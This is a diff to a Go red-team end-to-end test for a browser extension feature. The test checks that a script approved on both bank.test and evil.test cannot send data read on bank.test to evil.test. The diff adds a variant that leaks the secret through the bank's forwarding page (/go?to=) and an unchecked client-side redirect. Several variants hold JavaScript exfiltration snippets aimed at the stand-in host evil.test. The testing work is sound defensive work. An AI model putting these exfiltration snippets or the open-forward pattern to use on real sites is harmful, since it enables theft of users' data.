@@ -15,7 +15,7 @@ import (
 // OPEN-ITEMS 99: a remixlet's own sites were exempt from every send rule. The person approved
 // one to run on bank.test and on evil.test (or on every site); on bank.test it reads the
 // balance and writes an image, a stylesheet url(), a link the person clicks, a same-origin
-// image through the site's open redirect, or clones of a comment's image from evil.test — each
+// image through the site's open redirect, a same-origin link its forwarding page follows, or clones of a comment's image from evil.test — each
 // to evil.test, carrying what it read. The approval names where a remixlet runs, not where it
 // may send: on a page of bank.test only bank.test's site (and hosts the person granted with a
 // fetch: permission) may receive what it writes. Controls: a remixlet whose other site is a
@@ -44,6 +44,8 @@ var ownSitesVariants = map[string]string{
 	"link":  `await dom.insert(box, await dom.create({ tag: 'a', attrs: { id: 'rxlink', href: 'https://evil.test/link/' + secret }, text: 'your statement' }));`,
 	"clone": `for (let i = 0; i < Number(secret[0]); i++) { await dom.insert(box, await dom.clone(await dom.query('#card'), true)); await new Promise((r) => setTimeout(r, 200)); }`,
 	"lazy":  `await dom.insert(box, await dom.create({ tag: 'span', attrs: { 'data-src': 'https://evil.test/lazy/' + secret }, text: '…' }));`,
+	"client": `const a = await dom.create({ tag: 'a', attrs: { href: '/go?to=' + encodeURIComponent('https://evil.test/client/' + secret) }, text: 'next' });
+await dom.insert(box, a); await dom.setText(await dom.query('#done'), 'done'); await dom.click(a);`,
 	"sheet": `/* style.css: #box { background-image: url(https://evil.test/sheet/static) } */`,
 	"every": `await dom.insert(box, await dom.create({ tag: 'img', attrs: { src: 'https://evil.test/every/' + secret } }));`,
 }
@@ -58,6 +60,9 @@ try {
 await dom.setText(await dom.query('#done'), 'done');
 `
 
+// ownSitesErr is what the remixlet caught, on its page ("" elsewhere).
+const ownSitesErr = `(document.getElementById('err') || {}).textContent || ''`
+
 func ownSitesManifest(name string, matches []string, perms string) []byte {
 	m := strings.Join(matches, `", "`)
 	return []byte(fmt.Sprintf(`{"name": %q, "description": "Own sites e2e.", "api": 1, "matches": ["%s"], "permissions": [%s]}`, name, m, perms))
@@ -69,6 +74,9 @@ func TestRedteamOwnSitesReceiveNothingFromAnotherSite(t *testing.T) {
 	sites, p, tab := e2etest.StartProxied(t, map[string]http.Handler{
 		"bank.test": http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 			switch {
+			case r.URL.Path == "/go":
+				// The site's forwarding page ("you are leaving bank.test").
+				htmlPage(w, `<!doctype html><html><head><title>Leaving</title></head><body><script>location.href = new URLSearchParams(location.search).get('to');</script></body></html>`)
 			case r.URL.Path == "/r":
 				http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
 			case strings.HasPrefix(r.URL.Path, "/v/"):
@@ -95,6 +103,7 @@ func TestRedteamOwnSitesReceiveNothingFromAnotherSite(t *testing.T) {
 		{name: "link", want: "/link/4711"},
 		{name: "clone", want: "/planted"},
 		{name: "lazy", want: "/lazy/4711"},
+		{name: "client", want: "/client/4711"},
 		{name: "sheet", want: "/sheet/static"},
 		{name: "every", matches: []string{"https://*/v/every"}, want: "/every/4711"},
 		// Controls: the page's own site, and a host the person granted.
@@ -130,8 +139,10 @@ func TestRedteamOwnSitesReceiveNothingFromAnotherSite(t *testing.T) {
 	for _, v := range variants {
 		before := sites.Requests("evil.test", "/planted")
 		tab.Navigate("https://bank.test/v/" + v.name)
-		tab.WaitConnected()
-		if err := waitTrue(tab, 30*time.Second, `document.getElementById('done').textContent === 'done'`); err != nil {
+		if v.name != "client" { // it leaves the page at once
+			tab.WaitConnected()
+		}
+		if err := waitTrue(tab, 30*time.Second, `document.getElementById('done') === null || document.getElementById('done').textContent === 'done'`); err != nil {
 			t.Errorf("%s: the remixlet did not run: %v\nlog:\n%s", v.name, err, remixletLog(t, p.Store, ids[v.name]))
 			continue
 		}
@@ -144,7 +155,7 @@ func TestRedteamOwnSitesReceiveNothingFromAnotherSite(t *testing.T) {
 			for deadline := time.Now().Add(10 * time.Second); sites.Requests(host, "/"+path) == 0; time.Sleep(100 * time.Millisecond) {
 				if time.Now().After(deadline) {
 					t.Errorf("%s: the remixlet's image from %s did not load (a false refusal)\nerr: %s\nlog:\n%s", v.name, v.control,
-						e2etest.Eval[string](tab, `document.getElementById('err').textContent`), remixletLog(t, p.Store, ids[v.name]))
+						e2etest.Eval[string](tab, ownSitesErr), remixletLog(t, p.Store, ids[v.name]))
 					break
 				}
 			}
@@ -156,7 +167,7 @@ func TestRedteamOwnSitesReceiveNothingFromAnotherSite(t *testing.T) {
 		}
 		if n > 0 {
 			t.Errorf("BUG: %s: the remixlet, approved on bank.test and evil.test, sent what it read on bank.test to evil.test (%d requests):\n  %s\nerr: %s\nlog:\n%s",
-				v.name, n, strings.Join(evil.requests(), "\n  "), e2etest.Eval[string](tab, `document.getElementById('err').textContent`), remixletLog(t, p.Store, ids[v.name]))
+				v.name, n, strings.Join(evil.requests(), "\n  "), e2etest.Eval[string](tab, ownSitesErr), remixletLog(t, p.Store, ids[v.name]))
 		}
 	}
 }
